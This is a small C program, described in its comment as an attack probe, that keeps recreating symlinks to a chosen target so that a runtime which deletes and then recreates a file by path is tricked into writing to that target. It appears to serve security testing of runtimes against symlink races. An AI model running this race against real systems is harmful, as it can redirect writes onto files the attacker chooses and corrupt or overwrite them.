/* Attack probe: keep symlinks LINK... -> TARGET in place, recreating each
 * the moment a runtime removes it, so a runtime that removes a symlink and
 * then creates a file by path (following a final symlink) opens TARGET.
 * Usage: relink TARGET SECONDS LINK... */
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4)
        return 2;
    time_t end = time(NULL) + atol(argv[2]);
    while (time(NULL) < end)
        for (int i = 0; i < 1000; i++)
            for (int l = 3; l < argc; l++)
                symlink(argv[1], argv[l]);
    return 0;
}
